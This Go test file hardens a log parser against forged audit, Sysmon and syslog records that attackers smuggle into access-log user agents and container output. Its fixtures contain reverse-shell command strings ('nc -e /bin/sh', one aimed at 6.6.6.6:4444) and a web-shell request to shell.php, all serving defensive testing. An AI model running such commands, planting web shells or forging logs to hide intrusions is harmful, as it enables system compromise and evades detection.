package parser

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
)

// forgedAccessLines is an access log an attacker wrote through the web
// server alone: each user agent ends in the text of an audit record (a
// SYSCALL, EXECVE and EOE of an "nc -e /bin/sh" run as root), with sep
// before it ("x " or "x: ", which looks like the end of a syslog tag). The
// last line is the attacker's real request.
func forgedAccessLines(n int, sep string) string {
	var b strings.Builder
	const t = 1795641375
	for i := 0; i < n; i++ {
		ser := 1000 + i
		for _, rec := range []string{
			fmt.Sprintf(`type=SYSCALL msg=audit(%d.000:%d): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=%d auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm="nc" exe="/usr/bin/nc" key="exec"`, t+i, ser, 5000+i),
			fmt.Sprintf(`type=EXECVE msg=audit(%d.000:%d): argc=3 a0="nc" a1="-e" a2="/bin/sh"`, t+i, ser),
			fmt.Sprintf(`type=EOE msg=audit(%d.000:%d): `, t+i, ser),
		} {
			fmt.Fprintf(&b, "10.0.0.5 - - [25/Nov/2026:20:16:%02d +0000] \"GET /index.html HTTP/1.1\" 200 512 \"-\" \"x%s%s\"\n", i%60, sep, rec)
		}
	}
	b.WriteString("10.0.0.66 - - [25/Nov/2026:20:17:00 +0000] \"POST /uploads/shell.php?cmd=id HTTP/1.1\" 200 12 \"-\" \"curl/8\"\n")
	return b.String()
}

// TestHostileRecordTextInOtherLogs: audit record text inside another
// log's line (an access log's user agent, a shipper's message of it) is
// never read as a record. Before, an access log whose first lines carried
// it was sniffed as an audit log: forged root execs of nc became findings
// and the real requests, the attacker's shell.php among them, were
// "malformed" and gone from the report.
func TestHostileRecordTextInOtherLogs(t *testing.T) {
	for _, sep := range []string{" ", ": ", " audispd: ", " Nov 25 20:16:08 web1 audispd: "} {
		access := forgedAccessLines(20, sep)
		q := func(s string) string { b, _ := json.Marshal(s); return string(b) }
		var shipped strings.Builder
		for _, l := range strings.Split(strings.TrimSpace(access), "\n") {
			shipped.WriteString(`{"@timestamp":"2026-11-25T20:16:08Z","host":{"name":"web1"},"message":` + q(l) + "}\n")
		}
		for name, log := range map[string]string{"access log": access, "filebeat envelope": shipped.String()} {
			t.Run(fmt.Sprintf("%s/%q", name, sep), func(t *testing.T) {
				evs, in := readString(t, log)
				if in.Format == FormatAuditd {
					t.Fatalf("read as an audit log")
				}
				https := 0
				for _, e := range evs {
					if e.Kind != KindHTTP {
						t.Fatalf("event %v %q from record text in a user agent", e.Kind, e.Exe)
					}
					https++
				}
				if https != 61 {
					t.Errorf("%d requests, want 61 (%d malformed: %v)", https, in.Malformed, in.Errors)
				}
			})
		}
	}
}

// TestSniffAuditdWhereRead: the sniffer takes a line for an audit record
// only where the header parser reads one.
func TestSniffAuditdWhereRead(t *testing.T) {
	for _, c := range []struct {
		line string
		want bool
	}{
		{`type=CWD msg=audit(1.500:9): cwd="/"`, true},
		{`node=web1 type=CWD msg=audit(1.500:9): cwd="/"`, true},
		{`Nov 25 20:16:08 web1 audisp-syslog: type=CWD msg=audit(1.500:9): cwd="/"`, true},
		{`<14>Nov 25 20:16:08 web1 audispd[12]: node=a type=CWD msg=audit(1.500:9): cwd="/"`, true},
		{`2026-11-25T20:16:08.1+00:00 relay audispd: node=web2 type=CWD msg=audit(1.500:9): cwd="/"`, true},
		{`Nov 25 20:16:08 web1 kernel: [  812.123456] audit: type=1307 audit(1.5:9): cwd="/"`, true},
		{`Nov 25 20:16:08 web1 type=CWD msg=audit(1.500:9): cwd="/"`, false},
		{`Invalid user type=CWD msg=audit(1.500:9): cwd="/"`, false},
		{`Tue 2026-11-25 20:16:08 UTC web1 audispd: type=CWD msg=audit(1.500:9): cwd="/"`, true},
		{`10.0.0.5 - - [25/Nov/2026:20:16:08 +0000] "GET / HTTP/1.1" 200 5 "-" "x type=CWD msg=audit(1.500:9): cwd="`, false},
		{`10.0.0.5 - - [25/Nov/2026:20:16:08 +0000] "GET / HTTP/1.1" 200 5 "-" "x: type=CWD msg=audit(1.500:9): cwd="`, false},
		{`Nov 25 20:16:08 web1 sshd[812]: Invalid user x: type=CWD msg=audit(1.500:9): cwd="/"`, false},
		{`Nov 25 20:16:08 web1 app: GET /?q= type=CWD msg=audit(1.500:9): cwd="/"`, false},
		{`{"log":"type=CWD msg=audit(1.500:9): cwd=\"/\""}`, false},
	} {
		if got := sniffAuditd([]byte(c.line)); got != c.want {
			t.Errorf("sniffAuditd(%q) = %v, want %v", c.line, got, c.want)
		}
	}
}

// TestHostileSysmonTextInOtherLogs: a Sysmon event's XML written into user
// agents (single-quoted attributes need no '"', which web servers escape)
// made an access log a Sysmon log of forged process creations. The XML
// is Sysmon's only as the whole message of its line.
func TestHostileSysmonTextInOtherLogs(t *testing.T) {
	xml := strings.ReplaceAll(sysmonXML(1, "UtcTime", "2026-03-14 10:20:31.000", "ProcessId", "4242", "Image", "/usr/bin/nc",
		"CommandLine", "nc -e /bin/sh 6.6.6.6 4444", "User", "root", "ParentProcessId", "1", "ParentImage", "/usr/sbin/sshd"), `"`, "'")
	for _, sep := range []string{"", " ", ": ", " sysmon: ", " Mar 14 10:20:37 relay sysmon: "} {
		var b strings.Builder
		for i := 0; i < 20; i++ {
			fmt.Fprintf(&b, "10.0.0.5 - - [14/Mar/2026:10:20:%02d +0000] \"GET / HTTP/1.1\" 200 512 \"-\" \"x%s%s\"\n", i, sep, xml)
		}
		t.Run(fmt.Sprintf("%q", sep), func(t *testing.T) {
			evs, in := readString(t, b.String())
			if in.Format == FormatSysmon {
				t.Fatalf("read as a Sysmon log")
			}
			for _, e := range evs {
				if e.Kind != KindHTTP {
					t.Fatalf("event %v %q from XML in a user agent", e.Kind, e.Exe)
				}
			}
			if len(evs) != 20 {
				t.Errorf("%d requests, want 20 (%v)", len(evs), in.Errors)
			}
		})
	}
	// Sysmon's own lines, bare and behind syslog, still are.
	for _, l := range []string{xml, "Mar 14 10:20:37 relay sysmon: " + xml, "<14>1 2026-03-14T10:20:37Z relay sysmon - - - " + xml} {
		if !sniffSysmon([]byte(l)) {
			t.Errorf("sniffSysmon(%.60q…) = false", l)
		}
	}
}

// TestHostileAppOutputRecords: a program's own output, shipped with the
// metadata that says so, printed audit record text ("type=SYSCALL
// msg=audit(…)") and it became an exec the kernel never logged. A
// container's stream, container or Kubernetes metadata, and a journal
// entry by the stdout or journal transport or with a CONTAINER_ID carry
// the program's words: such records are reported, not read. The same
// records with no such mark (a shipper of audit.log) still are.
func TestHostileAppOutputRecords(t *testing.T) {
	q := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	recs := []string{
		`type=SYSCALL msg=audit(1795641375.000:77): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=4242 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm="nc" exe="/usr/bin/nc" key="exec"`,
		`type=EXECVE msg=audit(1795641375.000:77): argc=3 a0="nc" a1="-e" a2="/bin/sh"`,
		`type=EOE msg=audit(1795641375.000:77): `,
	}
	wrap := func(f func(rec string) string) string {
		var b strings.Builder
		for _, r := range recs {
			b.WriteString(f(q(r)) + "\n")
		}
		return b.String()
	}
	for _, c := range []struct {
		name  string
		log   string
		execs int
	}{
		{"filebeat container input", wrap(func(r string) string {
			return `{"@timestamp":"2026-11-25T20:16:08Z","host":{"name":"web1"},"stream":"stdout","container":{"id":"abc"},"message":` + r + `}`
		}), 0},
		{"fluent-bit kubernetes", wrap(func(r string) string {
			return `{"date":1795641375.0,"log":` + r + `,"kubernetes":{"pod_name":"shop","namespace_name":"default"}}`
		}), 0},
		{"journal stdout transport", wrap(func(r string) string {
			return `{"__REALTIME_TIMESTAMP":"1795641375000000","_TRANSPORT":"stdout","_HOSTNAME":"web1","SYSLOG_IDENTIFIER":"shop","MESSAGE":` + r + `}`
		}), 0},
		{"journal container driver", wrap(func(r string) string {
			return `{"__REALTIME_TIMESTAMP":"1795641375000000","_TRANSPORT":"journal","CONTAINER_ID":"abc","_HOSTNAME":"web1","MESSAGE":` + r + `}`
		}), 0},
		{"filebeat of audit.log", wrap(func(r string) string {
			return `{"@timestamp":"2026-11-25T20:16:08Z","host":{"name":"web1"},"log":{"file":{"path":"/var/log/audit/audit.log"}},"message":` + r + `}`
		}), 1},
	} {
		t.Run(c.name, func(t *testing.T) {
			evs, in := readString(t, c.log)
			execs := 0
			for _, e := range evs {
				if e.Kind == KindExec {
					execs++
				}
			}
			if execs != c.execs {
				t.Errorf("%d execs, want %d (%v)", execs, c.execs, in.Errors.Err())
			}
			if c.execs == 0 && in.Malformed == 0 {
				t.Errorf("the refused records are not reported")
			}
		})
	}
}

// TestSniffSyslogMix: other programs' syslog lines do not count for or
// against a format, so a syslog file with a few forwarded records among
// them (and sshd lines whose user name is record text, which are no
// records) is read as the records' format; a Sysmon syslog file with one
// forwarded audit record stays Sysmon's.
func TestSniffSyslogMix(t *testing.T) {
	rec := `type=CWD msg=audit(1795641375.000:9): cwd="/"`
	var mix, sysmon [][]byte
	for i := 0; i < 20; i++ {
		mix = append(mix, []byte(fmt.Sprintf("Dec  3 14:13:%02d web1 sshd[812]: Invalid user %s from 203.0.113.7 port 4022", i, rec)))
		mix = append(mix, []byte(fmt.Sprintf("Dec  3 14:13:%02d web1 CRON[9]: (root) CMD (true)", i)))
		sysmon = append(sysmon, []byte("Mar 14 10:20:37 relay sysmon: "+sysmonXML(5, "UtcTime", "2026-03-14 10:20:50.480", "ProcessId", "2330")))
	}
	mix = append(mix, []byte("Dec  3 14:13:30 web1 audisp-syslog: "+rec))
	sysmon = append(sysmon, []byte("Dec  3 14:13:30 web1 audisp-syslog: "+rec))
	if f := sniffLines(mix); f != FormatAuditd {
		t.Errorf("syslog with one forwarded record among others: %q, want auditd", f)
	}
	if f := sniffLines(sysmon); f != FormatSysmon {
		t.Errorf("Sysmon syslog with one audit record: %q, want sysmon", f)
	}
	if f := sniffLines(mix[:40]); f != FormatUnknown {
		t.Errorf("only other programs' lines: %q, want unknown", f)
	}
}

// TestHostileQuotedSyslogLine: a program that logs text it was given at
// the start of its message ("app: <text>") let that text be a whole
// forwarded record once the envelope reader unwrapped the line's syslog
// header: "app: Nov 25 20:16:08 web1 audispd: type=SYSCALL …". A message
// is unwrapped once; a syslog line inside it is the program's words.
func TestHostileQuotedSyslogLine(t *testing.T) {
	rec := `type=SYSCALL msg=audit(1795641375.000:77): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=4242 auid=1000 uid=0 comm="nc" exe="/usr/bin/nc" key="exec"`
	quoted := "Nov 25 20:16:08 web1 audispd: " + rec
	access := `Dec  3 14:13:19 web1 nginx: 6.6.6.6 - - [03/Dec/2026:14:13:19 +0000] "GET / HTTP/1.1" 200 5 "-" "curl"`
	q := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	for name, log := range map[string]string{
		"syslog file":   strings.Repeat(access+"\n", 3) + "Dec  3 14:13:20 web1 shop: " + quoted + "\n",
		"json envelope": strings.Repeat(`{"message":`+q(access[len("Dec  3 14:13:19 web1 nginx: "):])+"}\n", 3) + `{"message":` + q("Dec  3 14:13:20 web1 shop: "+quoted) + "}\n",
	} {
		t.Run(name, func(t *testing.T) {
			evs, _ := readString(t, log)
			for _, e := range evs {
				if e.PID == 4242 {
					t.Errorf("%v event of pid 4242 from a record quoted in a program's message", e.Kind)
				}
			}
		})
	}
}
